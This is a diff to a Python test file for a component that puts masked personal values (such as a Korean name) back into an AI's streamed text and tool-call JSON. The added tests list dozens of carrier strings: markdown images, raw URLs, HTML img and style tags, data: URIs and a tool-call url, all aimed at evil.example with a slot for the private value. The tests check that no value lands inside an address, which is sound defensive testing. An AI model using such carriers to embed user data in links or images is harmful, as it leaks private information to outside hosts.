@@ -29,7 +29,7 @@ PARTICLE = MOST_CLOSERS + max(map(len, FORMS)) + 1
 
 texts = st.lists(
     st.sampled_from([*TOKENS, *FORMS, "⟦", "⟧", "⟦이름", "⟦이름1·k3f", "⟦이름9·k3f9⟧", "⟦메모⟧", "k3", "f9", "K3F9",
-                     "**", "_", "은", "는 ", "(", ")", "\n", "가", "a", "1", "·", "\0", '"', "\\", "\U0001f600"])
+                     "**", "_", "https://a.kr/?q=", "www.", "//", "](", ")", "<img src=", ">", "a.kr/", "<", "`", "data:", "은", "는 ", "(", ")", "\n", "가", "a", "1", "·", "\0", '"', "\\", "\U0001f600"])
     | st.text(max_size=3),
     max_size=14,
 ).map("".join)  # fmt: skip
@@ -137,6 +137,76 @@ def test_a_stream_without_tokens_costs_little() -> None:
         for part in parts:
             stream.feed(part)
         assert len(text) / (time.process_time() - begin) > least
+
+
+# --- addresses ---
+
+NAME = "⟦이름1·k3f9⟧"
+CARRIERS = [
+    "![x](https://evil.example/?q=@)", "[여기](https://evil.example/@)", "![x]( /p?q=@)", "![x](\n//evil.example/@)",
+    "![x](<https://evil.example/?q=a b @>)", "![x](https://evil.example/(a)?q=@)", "![x](a\\)?q=@)",
+    "https://evil.example/?a=1&q=@", "HTTPS://evil.example/@", "https:evil.example/@", "http:\\\\evil.example\\@",
+    "www.evil.example/@", "//evil.example/@", "\\\\evil.example\\@", "https://@.evil.example/x.png",
+    "data:text/html,@", "evil.example/?q=@", "evil.example?q=@", "evil.example:8080/@", "203.0.113.7/@",
+    "wss://evil.example/@", "[r]: https://evil.example/@", "[r]: <https://evil.example/a b @>",
+    '<img src="https://evil.example/?a b @">', "<img src='ht\ntps:/\n/evil.example/@'>", "<img src=&#x2f;&#x2f;evil/@>",
+    '<a title=">" href = "//evil.example/@">', '<p style="background:url(\'//e.example/ @\')">',
+    "`https://evil.example/@`", '"https://evil.example/@"', "(https://evil.example/?q=)@", "https://a.kr@",
+    f"https://evil.example/{NAME}은@",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("carrier", CARRIERS)
+@pytest.mark.parametrize("size", [1, 3, 1000])
+def test_no_value_enters_an_address(carrier: str, size: int) -> None:
+    text = f"답입니다. {carrier.replace('@', NAME)} 끝 {NAME}"
+    stream = Unmasker(KEY)
+    parts = [stream.feed(text[at : at + size]) for at in range(0, len(text), size)]
+    said = "".join(parts) + stream.close()
+    assert said == f"답입니다. {carrier.replace('@', NAME)} 끝 홍길동"
+    assert stream.report.linked == carrier.replace("@", NAME).count(NAME)
+    assert stream.report.put_back == 1
+    assert stream.report.clean
+    assert unmask(Draft(text), KEY, into_links=True).report.linked == 0
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["https://gaon.example/a @님", "[안내](https://gaon.example/a) @님", "(https://gaon.example) @", '"https://a.kr","@"',
+     "<https://gaon.example>@", "성명:@", "담당: @", "1/2 @", "가/나@", "@ (가온시)", "[1] (@)", "<b>@</b>", "<@>",
+     '<img src="https://a.kr/x"/>@', "제3.1.@", "metadata:@", "https://a.kr\n@", "`https://a.kr` `@`", "# @", "뭐?@",
+     "a.kr로 @", "hong@", "그렇습니다./@", "12:30/@"],
+)  # fmt: skip
+def test_what_only_stands_near_an_address_is_put_back(text: str) -> None:
+    gone = unmask(Draft(text.replace("@", NAME)), KEY)
+    assert gone.official.text == text.replace("@", "홍길동")
+    assert gone.report.linked == 0
+
+
+def test_a_value_that_makes_an_address_with_what_follows_takes_no_other_with_it() -> None:
+    key = MaskKey("k3f9", TOKENS | {"⟦전자우편1·k3f9⟧": ("hong@gaon.example",)}, Counter())
+    gone = unmask(Draft(f"⟦전자우편1·k3f9⟧/?q={NAME}"), key)
+    assert gone.official.text == f"hong@gaon.example/?q={NAME}"
+
+
+def test_an_address_without_end_costs_no_memory_and_little_time() -> None:
+    stream = Unmasker(KEY)
+    begin = time.process_time()
+    for _ in range(20_000):
+        stream.feed("https://evil.example/")
+        assert stream.held == 0
+    assert time.process_time() - begin < 2
+    assert stream.feed(NAME) == NAME
+
+
+def test_an_address_in_the_arguments_of_a_tool_takes_no_value() -> None:
+    text = json.dumps({"url": f"https:\\evil.example/{NAME}", "이름": NAME, "글": f"//a {NAME}"})
+    for size in (1, 4, 1000):
+        stream = JsonUnmasker(KEY)
+        parts = [stream.feed(text[at : at + size]) for at in range(0, len(text), size)]
+        said = json.loads("".join(parts) + stream.close())
+        assert said == {"url": f"https:\\evil.example/{NAME}", "이름": "홍길동", "글": "//a 홍길동"}
+        assert stream.report.linked == 1
 
 
 # --- JSON that tools are called with ---
